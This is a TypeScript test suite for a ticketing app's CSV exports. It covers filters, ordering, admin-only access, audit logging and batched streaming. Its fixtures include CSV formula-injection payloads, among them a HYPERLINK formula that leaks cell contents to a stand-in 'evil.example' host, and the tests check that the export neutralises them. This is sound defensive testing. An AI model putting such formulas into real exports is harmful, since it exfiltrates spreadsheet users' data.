/**
 * The CSV exports (README, "Export") on both engines, through the real app: every ticket
 * /admin/tickets/ lists under the same filters, in its order, across more rows than one batch
 * (checked against the list itself, walked page by page), the audit log likewise, the API's export
 * against GET /api/v1/tickets, what customers type arriving quoted and unable to run as a formula,
 * who may export, a bad filter refused as the list refuses it, and the reads stopping when the
 * reader does.
 */
import { Writable } from 'node:stream';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { referenceOf } from '../../src/core/tickets.js';
import { validateTeam } from '../../src/core/teamInput.js';
import { csvStream } from '../../src/http/csv.js';
import { EXPORT_BATCH, ticketsCsv } from '../../src/services/csvExport.js';
import { saveTeam } from '../../src/services/teams.js';
import { reassignTicket } from '../../src/services/admin.js';
import { ApiClient, seedTickets, staffWithToken, walk } from '../api/support.js';
import { addStaff, Client, startTestApp, type TestApp } from '../support/app.js';
import { csvObjects } from '../support/csv.js';
import { DIALECTS } from '../support/db.js';
import { intakeTicket } from '../support/intake.js';
import { QueryCounter } from '../support/queryCounter.js';
import { adminClient, agentClient, rowIds } from './support.js';

const BASE = Date.UTC(2026, 0, 1);
const MINUTE = 60_000;
const DAY = 86_400_000;
/** More than two batches of the export. */
const BULK = 2 * EXPORT_BATCH + 150;

/** What customers write: formulas, quotes, commas, line breaks, accents. */
const NASTY = [
  { title: '=HYPERLINK("http://evil.example/?leak="&A1,"Fire: click")', name: 'Smith, Jane' },
  { title: '+1+1 fire', name: '@admin' },
  { title: '-2+3 fire', name: 'Zoë "the boss" Müller' },
  { title: 'Fire, again', name: '\tTabbed' },
];

/** The ids of an admin list, walked page by page by its "Older" links (200 rows a page). */
async function listedIds(client: Client, path: string, query: string): Promise<number[]> {
  const ids: number[] = [];
  let url: string | null = `${path}?${query}${query === '' ? '' : '&'}per_page=200`;
  while (url !== null) {
    const page = await client.get(url);
    expect(page.statusCode, url).toBe(200);
    ids.push(...rowIds(page.body));
    const next = /<a href="([^"]+)" rel="next">/.exec(page.body)?.[1];
    url = next === undefined ? null : next.replaceAll('&amp;', '&');
  }
  return ids;
}

for (const dialect of DIALECTS) {
  describe(`CSV exports (${dialect})`, () => {
    let t: TestApp;
    let admin: Client;
    let agent: Client;
    let adminToken: string;
    let agentToken: string;
    const nasty: number[] = [];

    beforeAll(async () => {
      t = await startTestApp(dialect);
      const { client, id: rootId } = await adminClient(t);
      admin = client;
      const alice = await addStaff(t.ctx, 'alice', { capacity: 100 });
      const bob = await addStaff(t.ctx, 'bob', { capacity: 100 });
      const billing = await saveTeam(t.ctx, rootId, validateTeam({ name: 'Billing' }));
      adminToken = (await staffWithToken(t.app, t.ctx, 'boss', { role: 'admin' })).token;
      agentToken = (await staffWithToken(t.app, t.ctx, 'carol')).token;
      // Tickets of every kind, a minute apart from the first of January: closed (in time or three days late, some rated), held, pending.
      await seedTickets(
        t.ctx,
        Array.from({ length: BULK }, (_, i) => {
          const created = BASE + i * MINUTE;
          const closed = i % 5 === 0;
          const agentId = i % 4 === 0 ? alice : i % 4 === 1 ? bob : closed ? alice : null;
          return {
            customer_name: `Customer ${i}`,
            customer_email: `c${i}@example.com`,
            title: `Bulk ticket ${i}`,
            description: 'Seeded.',
            priority: (['high', 'medium', 'low'] as const)[i % 3]!,
            status: closed ? ('closed' as const) : ('open' as const),
            agent_id: agentId,
            created_at: created,
            assigned_at: agentId === null ? null : created + MINUTE / 2,
            closed_at: closed ? created + (i % 2 === 0 ? 30 * MINUTE : 3 * DAY) : null,
            sla_due_at: created + (i % 7 === 0 ? 3650 * DAY : DAY),
            team_id: i % 6 === 0 ? billing : 1,
            csat_score: closed && i % 3 === 0 ? ('good' as const) : null,
          };
        }),
      );
      for (const { title, name } of NASTY) nasty.push((await intakeTicket(t.ctx, { name, email: 'nasty@example.com', title, description: 'On fire.', priority: 'high' })).id);
      await reassignTicket(t.ctx, rootId, nasty[0]!, 'alice');
      agent = await agentClient(t, 'alice');
    });
    afterAll(() => t.close());

    it('exports every ticket, newest first, across batches, as a UTF-8 CSV download with a header', async () => {
      const response = await admin.get('/admin/tickets/export.csv');
      expect(response.statusCode).toBe(200);
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['content-disposition']).toMatch(/^attachment; filename="tickets-\d{4}-\d{2}-\d{2}\.csv"/);
      expect(response.headers['cache-control']).toBe('no-store');
      expect(response.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
      const { header, rows } = csvObjects(response.body);
      expect(header).toEqual(['reference', 'created_at', 'title', 'customer_name', 'customer_email', 'priority', 'state', 'agent', 'team', 'topic', 'assigned_at', 'first_response_at', 'closed_at', 'sla_due_at', 'sla_paused', 'sla_breached', 'csat']);
      expect(rows).toHaveLength(BULK + NASTY.length);
      const ids = rows.map((r) => Number(r.reference!.slice(3)));
      expect(ids).toEqual([...ids].sort((a, b) => b - a));
      expect(new Set(ids).size).toBe(ids.length);
      expect(ids).toEqual(await listedIds(admin, '/admin/tickets/', ''));
    });

    it('says each seeded ticket as it is: times in UTC, state, agent, team, SLA and rating', async () => {
      const { rows } = csvObjects((await admin.get('/admin/tickets/export.csv?from=2026-01-01&to=2026-01-01')).body);
      const byRef = new Map(rows.map((r) => [r.reference, r]));
      const first = await t.ctx.handle.db.selectFrom('tickets').select('id').where('title', '=', 'Bulk ticket 0').executeTakeFirstOrThrow();
      // i = 0: closed half an hour after creation by alice, Billing, rated good, due in ten years.
      expect(byRef.get(referenceOf(first.id))).toMatchObject({
        created_at: '2026-01-01T00:00:00.000Z',
        title: 'Bulk ticket 0',
        customer_name: 'Customer 0',
        customer_email: 'c0@example.com',
        priority: 'high',
        state: 'closed',
        agent: 'alice',
        team: 'Billing',
        topic: '',
        assigned_at: '2026-01-01T00:00:30.000Z',
        first_response_at: '',
        closed_at: '2026-01-01T00:30:00.000Z',
        sla_due_at: '2035-12-30T00:00:00.000Z',
        sla_paused: 'no',
        sla_breached: 'no',
        csat: 'good',
      });
      // i = 5: closed three days late; i = 2: waiting, a day past due; i = 3: bob's.
      expect(byRef.get(referenceOf(first.id + 5))).toMatchObject({ state: 'closed', sla_breached: 'yes', team: 'Support', csat: '' });
      expect(byRef.get(referenceOf(first.id + 2))).toMatchObject({ state: 'pending', agent: '', assigned_at: '', sla_breached: 'yes' });
      expect(byRef.get(referenceOf(first.id + 1))).toMatchObject({ state: 'open', agent: 'bob' });
      // The day filter: the 1,440 tickets created on the first of January.
      expect(rows).toHaveLength(1440);
    });

    it.each([
      'priority=high',
      'state=pending',
      'status=closed&agent=alice',
      'breached=no',
      'team=billing',
      'from=2026-01-02&to=2026-01-02',
      'q=fire',
      'priority=HIGH&state=open&breached=yes',
    ])('exports exactly the rows /admin/tickets/?%s lists, in its order', async (query) => {
      const response = await admin.get(`/admin/tickets/export.csv?${query}`);
      expect(response.statusCode).toBe(200);
      const exported = csvObjects(response.body).rows.map((r) => Number(r.reference!.slice(3)));
      const listed = await listedIds(admin, '/admin/tickets/', query);
      expect(exported).toEqual(listed);
      expect(exported.length).toBeGreaterThan(0);
    });

    it('ignores the page cursor and size: an export is every row, not the page', async () => {
      const all = csvObjects((await admin.get('/admin/tickets/export.csv?priority=low')).body).rows;
      const paged = csvObjects((await admin.get(`/admin/tickets/export.csv?priority=low&per_page=5&after=${BULK - 100}`)).body).rows;
      expect(paged).toEqual(all);
      expect(all.length).toBeGreaterThan(EXPORT_BATCH / 3);
    });

    it('quotes what customers typed and defuses formulas: a spreadsheet shows the text, never runs it', async () => {
      // Intake makes a title one line; a stored line break (an older row, a script's insert) must still stay inside its field.
      const [multiline] = await seedTickets(t.ctx, [
        { customer_name: 'Line, Breaker', customer_email: 'lb@example.com', title: 'Two lines of fire\r\nsecond line, "quoted"', description: '-', priority: 'low', status: 'open', agent_id: null, created_at: BASE - DAY, sla_due_at: BASE },
      ]);
      const response = await admin.get('/admin/tickets/export.csv?q=fire');
      const { rows } = csvObjects(response.body);
      const byRef = new Map(rows.map((r) => [r.reference, r]));
      const stored = await t.ctx.handle.db.selectFrom('tickets').select(['id', 'title', 'customer_name']).where('id', 'in', [...nasty, multiline!]).execute();
      expect(stored).toHaveLength(NASTY.length + 1);
      const guarded = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text);
      for (const ticket of stored) {
        const row = byRef.get(referenceOf(ticket.id));
        expect(row, ticket.title).toBeDefined();
        expect(row!.title).toBe(guarded(ticket.title));
        expect(row!.customer_name).toBe(guarded(ticket.customer_name));
      }
      expect(byRef.get(referenceOf(nasty[0]!))!.title).toBe(`'${NASTY[0]!.title}`);
      expect(byRef.get(referenceOf(nasty[1]!))!.customer_name).toBe("'@admin");
      expect(byRef.get(referenceOf(multiline!))!.title).toBe('Two lines of fire\r\nsecond line, "quoted"');
      // In the bytes: the quote doubled inside a quoted field, the formula behind its apostrophe, the line break kept inside quotes.
      expect(response.body).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Fire: click"")"`);
      expect(response.body).toContain('"Two lines of fire\r\nsecond line, ""quoted"""');
      expect(response.body).toContain('"Zoë ""the boss"" Müller"');
      expect(response.body).not.toMatch(/(^|,)[=+@-]/m);
    });

    it('refuses a bad filter with a 400 naming it, as the list does', async () => {
      for (const [query, field] of [['state=lost', 'state'], ['from=2026-13-01', 'from'], ['breached=maybe', 'breached'], ['from=2026-02-02&to=2026-02-01', 'to'], [`q=${'x'.repeat(201)}`, 'q']] as const) {
        const list = await admin.get(`/admin/tickets/?${query}`);
        expect(list.statusCode, query).toBe(400);
        const response = await admin.get(`/admin/tickets/export.csv?${query}`);
        expect(response.statusCode, query).toBe(400);
        expect(response.headers['content-type'], query).toContain('text/html');
        expect(response.body, query).toContain(`Not exported: ${field}:`);
        expect(list.body, query).not.toContain('id="export-csv"');
      }
      const audit = await admin.get('/admin/audit/export.csv?from=yesterday');
      expect(audit.statusCode).toBe(400);
      expect(audit.body).toContain('Not exported: from:');
    });

    it('links "Export CSV" from the lists with the filters as typed, without the page', async () => {
      const page = await admin.get('/admin/tickets/?priority=high&q=fire&per_page=5');
      expect(page.statusCode).toBe(200);
      const href = /<a href="([^"]+)" id="export-csv" download>Export CSV<\/a>/.exec(page.body)?.[1]?.replaceAll('&amp;', '&');
      expect(href).toBe('/admin/tickets/export.csv?priority=high&q=fire');
      expect((await admin.get('/admin/tickets/')).body).toContain('<a href="/admin/tickets/export.csv" id="export-csv" download>');
      const audit = await admin.get('/admin/audit/?action=user');
      expect(audit.body).toContain('<a href="/admin/audit/export.csv?action=user" id="export-csv" download>');
    });

    it('exports the audit log under its filters, as /admin/audit/ lists it', async () => {
      for (const query of ['', 'action=user', 'actor=root', 'action=team.create']) {
        const response = await admin.get(`/admin/audit/export.csv${query === '' ? '' : `?${query}`}`);
        expect(response.statusCode, query).toBe(200);
        expect(response.headers['content-disposition'], query).toMatch(/^attachment; filename="audit-\d{4}-\d{2}-\d{2}\.csv"/);
        const { header, rows } = csvObjects(response.body);
        expect(header).toEqual(['id', 'at', 'actor', 'action', 'subject', 'address', 'before', 'after']);
        expect(rows.map((r) => Number(r.id)), query).toEqual(await listedIds(admin, '/admin/audit/', query));
        expect(rows.length, query).toBeGreaterThan(0);
      }
      const { rows } = csvObjects((await admin.get('/admin/audit/export.csv?action=team.create')).body);
      expect(rows[0]).toMatchObject({ actor: 'root', action: 'team.create' });
      expect(JSON.parse(rows[0]!.after!)).toMatchObject({ name: 'Billing' });
      expect(rows[0]!.at).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\.\d{3}Z$/);
    });

    it('keeps both exports to admins: an agent gets 403, a visitor the login page', async () => {
      for (const url of ['/admin/tickets/export.csv', '/admin/audit/export.csv?action=user']) {
        expect((await agent.get(url)).statusCode, url).toBe(403);
        const anonymous = await new Client(t.app).get(url);
        expect(anonymous.statusCode, url).toBe(303);
        expect(anonymous.headers.location, url).toBe(`/agents/login/?next=${encodeURIComponent(url)}`);
      }
    });

    it('the API export: the rows GET /api/v1/tickets lists under the same filters; admins only; bad filters a 400 naming them', async () => {
      const get = (url: string, token: string | null) => t.app.inject({ method: 'GET', url, headers: token === null ? {} : { authorization: `Bearer ${token}` } });
      for (const query of ['', 'priority=high&state=open', 'team=Billing&status=closed', 'q=fire', 'breached=false&agent=bob']) {
        const response = await get(`/api/v1/tickets/export${query === '' ? '' : `?${query}`}`, adminToken);
        expect(response.statusCode, query).toBe(200);
        expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
        const exported = csvObjects(response.body).rows.map((r) => r.reference);
        const listed = (await walk(new ApiClient(t.app, adminToken), `/api/v1/tickets?limit=200${query === '' ? '' : `&${query}`}`)).items.map((item: { reference: string }) => item.reference);
        expect(exported, query).toEqual(listed);
        expect(exported.length, query).toBeGreaterThan(0);
      }
      expect((await get('/api/v1/tickets/export', agentToken)).statusCode).toBe(403);
      expect((await get('/api/v1/tickets/export', null)).statusCode).toBe(401);
      for (const [query, field] of [['priority=urgent', 'priority'], ['agent=nobody', 'agent'], ['team=Nowhere', 'team'], ['breached=maybe', 'breached'], ['q=%22', 'q']] as const) {
        const response = await get(`/api/v1/tickets/export?${query}`, adminToken);
        expect(response.statusCode, query).toBe(400);
        expect(JSON.parse(response.body).error.fields, query).toHaveProperty(field);
      }
    });

    it('leaves each export in the audit log with who and the filters asked, and nothing for a refused one', async () => {
      const exportsLogged = async () =>
        (await t.ctx.handle.db.selectFrom('audit_log').select(['actor_name', 'action', 'subject', 'after_json']).where('action', 'like', 'export.%').orderBy('id').execute()).map((row) => ({
          ...row,
          after: JSON.parse(row.after_json ?? 'null'),
        }));
      const before = (await exportsLogged()).length;
      expect((await admin.get('/admin/tickets/export.csv?priority=high&q=fire&per_page=5')).statusCode).toBe(200);
      expect((await admin.get('/admin/audit/export.csv?action=user')).statusCode).toBe(200);
      const api = await t.app.inject({ method: 'GET', url: '/api/v1/tickets/export?team=Billing&breached=false', headers: { authorization: `Bearer ${adminToken}` } });
      expect(api.statusCode).toBe(200);
      // Refused: a bad filter, an agent, a visitor. None is an export.
      expect((await admin.get('/admin/tickets/export.csv?state=lost')).statusCode).toBe(400);
      expect((await agent.get('/admin/tickets/export.csv')).statusCode).toBe(403);
      expect((await t.app.inject({ method: 'GET', url: '/api/v1/tickets/export?priority=urgent', headers: { authorization: `Bearer ${adminToken}` } })).statusCode).toBe(400);
      expect((await exportsLogged()).slice(before)).toEqual([
        { actor_name: 'root', action: 'export.tickets', subject: 'tickets', after_json: expect.any(String), after: { filters: { priority: 'high', q: 'fire' } } },
        { actor_name: 'root', action: 'export.audit', subject: 'audit_log', after_json: expect.any(String), after: { filters: { action: 'user' } } },
        { actor_name: 'boss', action: 'export.tickets', subject: 'tickets', after_json: expect.any(String), after: { filters: { team: 'Billing', breached: false } } },
      ]);
      // The audit log lists them as a family of their own.
      expect((await admin.get('/admin/audit/?action=export')).body).toContain('export.audit');
    });

    it('reads a batch at a time, and a reader that stops stops the reads', async () => {
      const counter = new QueryCounter();
      const db = t.ctx.handle.db.withPlugin(counter);
      // Read to the end: the header, then batches of 100, one query each.
      const total = Number((await t.ctx.handle.db.selectFrom('tickets').select((eb) => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).n);
      expect(total).toBeGreaterThan(BULK);
      let whole = '';
      for await (const chunk of csvStream(ticketsCsv(db, {}, Date.now(), 100))) whole += String(chunk);
      expect(csvObjects(whole).rows).toHaveLength(total);
      const all = counter.count;
      expect(all).toBeGreaterThanOrEqual(Math.ceil(total / 100));
      // A client that takes nothing (its socket never drains): a batch or two are read, not the rest.
      counter.count = 0;
      const stream = csvStream(ticketsCsv(db, {}, Date.now(), 100));
      stream.pipe(new Writable({ write: () => undefined }));
      await new Promise((resolve) => setTimeout(resolve, 300));
      const ahead = counter.count;
      expect(ahead).toBeGreaterThan(0);
      expect(ahead).toBeLessThanOrEqual(3);
      // Hung up (Fastify destroys the stream when the client's socket closes): no read after.
      stream.destroy();
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(stream.destroyed).toBe(true);
      expect(counter.count).toBeLessThanOrEqual(ahead + 1);
      expect(counter.count).toBeLessThan(all / 4);
    });
  });
}
